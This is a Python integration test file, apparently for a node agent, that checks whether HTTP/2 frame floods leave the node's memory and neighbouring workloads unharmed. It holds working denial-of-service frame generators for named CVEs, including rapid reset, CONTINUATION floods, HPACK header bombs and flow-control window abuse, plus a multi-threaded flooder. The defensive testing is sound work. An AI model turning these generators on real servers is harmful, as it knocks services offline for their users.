"""Floods of HTTP/2 frames: they cost whoever sends them, and neither the node's memory nor the neighbours."""

from __future__ import annotations

import contextlib
import itertools
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator

import pytest
import requests

from tests.integration.agent.harness import Agent, Workspace, http_probe
from tests.waiting import until

# RFC 9113, section 6, and RFC 7541, section 6.2.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
NOT_INDEXED, INDEXED = b"\x00", b"\x40"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONNECTIONS, SECONDS = 20, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str, kind: bytes = NOT_INDEXED) -> bytes:
    """A field that says its own name and its value without a code, of up to 16 kB."""
    size = len(value) - 127
    length = bytes([len(value)]) if size < 0 else bytes([127, size & 127 | 128, size >> 7])
    return kind + bytes([len(name)]) + name.encode() + length + value.encode()


def request(path: str = "/version") -> bytes:
    fields = {":method": "GET", ":scheme": "http", ":authority": "guest", ":path": path}
    return b"".join(literal(name, value) for name, value in fields.items())


def rapid_resets() -> Iterator[bytes]:
    """CVE-2023-44487."""
    for stream in range(1, 400_001, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request("/sleep?ms=1000"))
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def endless_headers() -> Iterator[bytes]:
    """CVE-2024-27316: a header block that is continued for ever."""
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1, literal("x", "y" * 16_000))


def empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1)


def header_bombs() -> Iterator[bytes]:
    """A field of 3.9 kB in the table that is named by 12,000 bytes: 47 MB of fields in a block."""
    bomb = literal("x", "y" * 3900, INDEXED) + b"\xbe" * 12_000
    for stream in range(1, 20_001, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request() + bomb)


def pings() -> Iterator[bytes]:
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, b"12345678")


def settings() -> Iterator[bytes]:
    """CVE-2019-9515."""
    while True:
        yield frame(SETTINGS, 0, 0)


def priorities() -> Iterator[bytes]:
    """CVE-2019-9513."""
    while True:
        for stream in range(1, 4001, 2):
            yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15))


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, request("/count"))
    while True:
        yield frame(DATA, 0, 1)


def closed_windows() -> Iterator[bytes]:
    """CVE-2019-9517: many long answers are asked for, and none is let out."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request("/alloc?mib=8"))


def narrow_windows() -> Iterator[bytes]:
    """CVE-2019-9511: an answer goes out byte by byte."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request("/stream?chunks=1000&ms=0"))
    for _ in range(1000):
        for stream in range(1, 201, 2):
            yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))


FLOODS = [
    rapid_resets,
    endless_headers,
    empty_continuations,
    header_bombs,
    pings,
    settings,
    priorities,
    empty_data,
    closed_windows,
    narrow_windows,
]


def flood(address: tuple[str, int], frames: Callable[[], Iterator[bytes]], end: float) -> None:
    """Sends until the node has enough or the time is over, and reads nothing. Again, when it is let go."""
    while (left := end - time.monotonic()) > 0:
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=left) as client:
            client.sendall(PREFACE + frame(SETTINGS, 0, 0))
            sending = frames()
            while (batch := b"".join(itertools.islice(sending, 100))) and time.monotonic() < end:
                client.sendall(batch)
            # All is said: it waits for answers that it does not take.
            client.settimeout(max(end - time.monotonic(), 0.001))
            while time.monotonic() < end and client.recv(1):
                client.settimeout(max(end - time.monotonic(), 0.001))


@pytest.mark.parametrize("frames", FLOODS, ids=lambda frames: frames.__name__)
def test_a_flood_of_frames_ends_nobody(
    space: Workspace, agent: Agent, frames: Callable[[], Iterator[bytes]]
) -> None:
    flooded = space.serve(resources={"limits": {"memory": "64Mi"}}).wait_ready()
    port = space.port()
    probe = http_probe(port, timeoutSeconds=1)
    neighbour = space.serve(port=port, livenessProbe=probe, readinessProbe=probe).wait_ready()
    end = time.monotonic() + SECONDS
    address = (agent.address, flooded.port)
    threads = [threading.Thread(target=flood, args=(address, frames, end)) for _ in range(CONNECTIONS)]
    with agent.bounded(64):
        for thread in threads:
            thread.start()
        answered = 0
        while time.monotonic() < end:
            assert requests.get(f"{neighbour.url}/version", timeout=5).status_code == 200
            answered += 1
        for thread in threads:
            thread.join()
        assert answered > 0
        until(lambda: agent.metrics()["krustlet_wasm_instances"] < 10, "what nobody waits for to be gone")
    status = neighbour.status()
    assert (status.restart_count, status.ready) == (0, True), neighbour.describe()
    assert requests.get(f"{flooded.url}/version", timeout=5).status_code == 200
